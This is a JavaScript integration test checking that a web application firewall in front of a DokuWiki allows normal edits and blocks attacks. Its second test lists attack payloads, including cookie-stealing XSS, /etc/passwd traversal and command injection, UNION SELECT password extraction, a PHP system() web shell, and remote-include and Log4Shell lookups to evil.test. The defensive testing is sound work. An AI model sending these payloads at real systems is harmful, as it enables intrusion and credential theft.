// A wiki that none of us wrote (Debian's dokuwiki) behind the suite's own gate, with the firewall on at paranoia 1: written, corrected
// and searched in a real browser without one false alarm; attacked, it is never reached. The rule set's own exclusions for this wiki
// are on (tx.crs_exclusions_dokuwiki), as its operator would have them: people who signed in paste shell scripts and SQL into pages.
import assert from 'node:assert/strict';
import {spawn} from 'node:child_process';
import {createHash} from 'node:crypto';
import fs from 'node:fs';
import {after, before, describe, test} from 'node:test';
import {browserFor, pageIn} from '../lib/browser.mjs';
import {freePort, Stack, until} from '../lib/stack.mjs';

const missing = !['/usr/share/dokuwiki', '/etc/dokuwiki', '/usr/bin/php', '/usr/share/modsecurity-crs/rules'].every(path => fs.existsSync(path)) &&
  'dokuwiki, php-cli or modsecurity-crs is not installed (scripts/setup tests)';
let stack, browser, wiki, person;

/* The wiki's files lie in the state's folder beside the suite's, for this test alone. */
function layWiki(folder, origin) {
  for (const name of ['pages', 'attic', 'media', 'media_attic', 'media_meta', 'meta', 'cache', 'index', 'locks', 'tmp', 'log']) {
    fs.mkdirSync(`${folder}/data/${name}`, {recursive: true});
  }
  fs.mkdirSync(`${folder}/conf`);
  for (const name of fs.readdirSync('/etc/dokuwiki')) {
    if (fs.existsSync(`/etc/dokuwiki/${name}`)) fs.copyFileSync(`/etc/dokuwiki/${name}`, `${folder}/conf/${name}`);
  }
  fs.writeFileSync(`${folder}/conf/local.php`, `<?php $conf['savedir'] = '${folder}/data'; $conf['useacl'] = 1; $conf['superuser'] = '@admin';
    $conf['title'] = 'Wiki'; $conf['lang'] = 'en'; $conf['baseurl'] = '${origin}'; $conf['basedir'] = '/';`);
  fs.writeFileSync(`${folder}/conf/acl.auth.php`, '*\t@ALL\t1\n*\t@user\t8\n');
  fs.writeFileSync(`${folder}/conf/users.auth.php`, `zoe:${createHash('md5').update('wiki pass 1').digest('hex')}:Zoé:zoe@example.test:user\n`);
  fs.writeFileSync(`${folder}/conf.php`, `<?php define('DOKU_CONF', '${folder}/conf/');`);
}

/* A rule set's folder as an operator has it: their set-up, then the rules. */
function layRules(folder) {
  fs.mkdirSync(`${folder}/rules`, {recursive: true});
  fs.writeFileSync(`${folder}/crs-setup.conf`,
    'SecAction "id:100,phase:1,pass,nolog,setvar:tx.crs_exclusions_dokuwiki=1"\nInclude /etc/modsecurity/crs/crs-setup.conf\n');
  fs.writeFileSync(`${folder}/rules/all.conf`, 'Include /usr/share/modsecurity-crs/rules/*.conf\n');
}

/*= S58, S64 type=test */
describe('a wiki behind the gate', {skip: missing}, () => {
  before(async () => {
    const port = await freePort(), listen = await freePort();
    const rules = fs.mkdtempSync(`${process.env.TMPDIR ?? '/tmp'}/rempart-rules-`);
    fs.chmodSync(rules, 0o755);
    layRules(rules);
    stack = await Stack.start({app: null, port: listen, config: () => `host: localhost
gate:
  listen: ${listen}
waf:
  rules: ${rules}
apps:
  - name: wiki
    upstream: http://127.0.0.1:${port}
    sign_in: required
`});
    stack.rules = rules;
    const folder = stack.file('wiki');
    layWiki(folder, stack.origin);
    wiki = spawn('php', ['-d', `auto_prepend_file=${folder}/conf.php`, '-d', 'display_errors=0', '-S', `127.0.0.1:${port}`, '-t', '/usr/share/dokuwiki'],
      {stdio: 'ignore', detached: true, env: {...process.env, PHP_CLI_SERVER_WORKERS: '4'}}); // a group: its workers outlive it otherwise
    await until('the wiki', async () => (await fetch(`http://127.0.0.1:${port}/doku.php`)).ok);
    person = await stack.firstAdministrator();
    browser = await browserFor(stack);
  });
  after(async () => {
    await browser?.close();
    if (wiki?.exitCode === null) {
      process.kill(-wiki.pid, 'SIGTERM');
      await new Promise(resolve => wiki.once('exit', resolve));
    }
    await stack?.stop();
    if (stack?.rules) fs.rmSync(stack.rules, {recursive: true, force: true});
  });

  // Of the wiki's places: the suite's canaries attack beside.
  const refusals = () => stack.output.split('\n').filter(line => /rempart_waf: (would be )?refused.*request: "[A-Z]+ \/(doku\.php|lib\/|_)/.test(line)).join('\n');
  const signedIn = async options => {
    const page = await pageIn(browser, options);
    await page.context().addCookies(Object.entries(person.cookies).map(([name, value]) =>
      ({name, value, domain: 'localhost', path: '/', secure: true, httpOnly: true})));
    return page;
  };

  test('pages are written, corrected, searched and compared without a false alarm', async () => {
    const page = await signedIn();
    await page.goto(`${stack.origin}/doku.php?id=start&do=login`);
    await page.fill('input[name=u]', 'zoe');
    await page.fill('input[name=p]', 'wiki pass 1');
    await page.click('#dw__login button[type=submit]');
    await page.waitForSelector('text=Logged in as');
    const texts = {
      meeting: '====== Réunion du mardi ======\n\nPrésents : Zoé, Léa & Tom. Budget : 1 200 € (−5 %).\n\n  * Choisir la date ; voir [[budget|le budget]]\n  * "Qui ?" — à décider\n\n^ Poste ^ Prix ^\n| Chaises | 3 × 49,90 € |\n',
      guide: '====== How we order ======\n\nSelect the items from the list, then update the order where the price is lower. It\'s 5 > 3 && 2 < 4.\n\n<code bash>\nls -l *.txt | sort\n</code>\n\n<code sql>\nSELECT name FROM orders WHERE price < 5;\n</code>\n',
    };
    for (const [name, text] of Object.entries(texts)) {
      await page.goto(`${stack.origin}/doku.php?id=${name}&do=edit`);
      await page.fill('textarea[name=wikitext]', text);
      await page.fill('input[name=summary]', 'first version, it\'s new');
      await page.click('button[name="do[save]"]');
      await page.waitForURL(address => !address.search.includes('do=edit'));
      assert.match(await page.textContent('body'), /Réunion du mardi|How we order/, refusals());
    }
    await page.goto(`${stack.origin}/doku.php?id=meeting&do=edit`);
    await page.fill('textarea[name=wikitext]', `${texts.meeting}\nSuite le jeudi.\n`);
    await page.click('button[name="do[preview]"]');
    await page.waitForSelector('#preview, .preview');
    await page.click('button[name="do[save]"]');
    await page.waitForSelector('text=Suite le jeudi');
    await page.goto(`${stack.origin}/doku.php?do=search&q=${encodeURIComponent('budget "le jeudi"')}`);
    assert.match(await page.textContent('body'), /meeting|Réunion/);
    await page.goto(`${stack.origin}/doku.php?id=meeting&do=revisions`);
    await page.goto(`${stack.origin}/doku.php?id=meeting&do=media`);
    assert.equal(refusals(), '');
    await page.context().close();
  });

  test('the attacks that wikis see never reach it, signed in or not', async () => {
    const attacks = [
      '/doku.php?id=start&q=%3Cscript%3Ealert(document.cookie)%3C/script%3E',
      '/doku.php?id=../../../../../../etc/passwd',
      '/lib/exe/fetch.php?media=http://evil.test/shell.txt%00.php',
      '/doku.php?id=1%27%20UNION%20SELECT%20login,password%20FROM%20users--%20-',
      '/doku.php?id=start;cat%20/etc/passwd',
      '/doku.php?x=%3C?php%20system($_GET%5B1%5D);',
      '/doku.php?x=$%7Bjndi:ldap://evil.test/a%7D',
      '/.git/config', '/conf/local.php.bak',
    ];
    const headers = {'user-agent': 'Mozilla/5.0', accept: 'text/html', 'accept-language': 'fr'};
    for (const attack of attacks) {
      const answer = await person.get(attack, {headers});
      assert.equal(answer.status, 403, attack);
      assert.match(answer.text, /<html lang="fr">[\s\S]*Numéro d’incident/);
    }
    assert.equal(refusals().split('\n').length >= attacks.length - 2, true, 'the log that was empty before shows them');
    const stranger = stack.client();
    for (const attack of attacks.slice(0, 3)) assert.equal((await stranger.get(attack, {headers})).status, 403, attack);
    assert.equal((await stranger.get('/doku.php', {headers: {...headers, 'user-agent': 'Nikto/2.1.6'}})).status, 403);
  });
});
